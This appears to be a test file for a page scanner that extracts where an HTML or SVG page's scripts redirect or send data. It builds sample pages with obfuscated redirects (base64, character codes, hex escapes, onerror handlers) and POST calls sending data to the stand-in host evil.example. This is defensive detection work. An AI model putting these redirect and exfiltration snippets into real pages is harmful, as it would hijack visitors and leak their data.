/** Where a page leads by its scripts. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { scriptGoals } from '../../src/unpack/script-goals.ts';
import { assertLinear } from '../growth.ts';
import { opened } from './opening.ts';

const GOAL = 'https://evil.example/goal';
const coded = Buffer.from(GOAL).toString('base64');
const page = (script: string): string => `<html><body><p>Please wait</p><script>${script}</script></body></html>`;
const linksOf = (html: string, name = 'a.html'): string[] =>
  opened(Buffer.from(html), name).links.map(({ url }) => url);

const ways: Readonly<Record<string, string>> = {
  'the address': page(`window.location="${GOAL}"`),
  'the address replaced': page(`location.replace('${GOAL}')`),
  'the address of the document': page(`document.location.href = \`${GOAL}\``),
  'a name given before': page(`var u='${GOAL}';setTimeout(function(){location=u},9)`),
  'a window': page(`window.open("${GOAL}","_self")`),
  'letters as numbers': page(`location="${GOAL.replace('http', '\\x68\\x74\\x74\\u0070')}"`),
  pieces: page('location="https://"+"evil.example"+ \'/goal\''),
  Base64: page(`location.href=atob("${coded}")`),
  'Base64 by a name': page(`const a="${coded}";location.href=atob(a)`),
  'codes of letters': page(`location=String.fromCharCode(${[...GOAL].map((one) => one.charCodeAt(0)).join()})`),
  'escaped strokes': page(`location="${GOAL.replaceAll('/', '\\/')}"`),
  'without a scheme': page(`location="${GOAL.slice(6)}"`),
  'an attribute': `<html><body onload="location='${GOAL}'">x</body></html>`,
  'an attribute with references': `<html><body onload="location=&quot;${GOAL}&quot;">x</body></html>`,
  'a picture that fails': `<html><img src=x onerror="location='${GOAL}'"></html>`,
  'what is sent': page(`fetch("${GOAL}",{method:"POST",body:d})`),
  'what is sent in the old way': page(`x=new XMLHttpRequest();x.open("POST","${GOAL}");x.send(d)`),
  'what jQuery sends': page(`$.ajax({type:"POST",url:"${GOAL}"})`),
  'the goal of a form': page(`document.forms[0].action="${GOAL}";document.forms[0].submit()`),
};

for (const [how, html] of Object.entries(ways))
  test(`a page leads on by ${how}`, () => {
    assert.deepEqual(linksOf(html), [GOAL]);
  });

test('a drawing leads on by its script', () => {
  assert.deepEqual(
    linksOf(`<svg xmlns="http://www.w3.org/2000/svg"><script>window.location="${GOAL}"</script></svg>`, 'a.svg'),
    [GOAL],
  );
});

test('what a page fetches for itself, or only holds, is no goal', () => {
  for (const script of [
    'var api="https://www.example.com/a";show(api)',
    'location.hash="#top";load("https://cdn.example.net/a.js","https://cdn.example.net/a.css?v=1")',
    `location.reload();${Array.from({ length: 40 }, (_, i) => `"https://www.example.com/${i}"`).join()}`,
    'var ns="http://www.w3.org/2000/svg";location.reload()',
  ])
    assert.deepEqual(linksOf(page(script)), [], script.slice(0, 60));
});

test('scripts made to take long are looked at in linear time', () => {
  for (const unit of [
    'location=',
    'location = "',
    '"+"',
    "fetch('",
    'atob("aHR0c',
    'String.fromCharCode(1,',
    '\\x41',
    'url : ',
  ])
    assertLinear(unit, 4000, (n) => unit.repeat(n), scriptGoals);
});
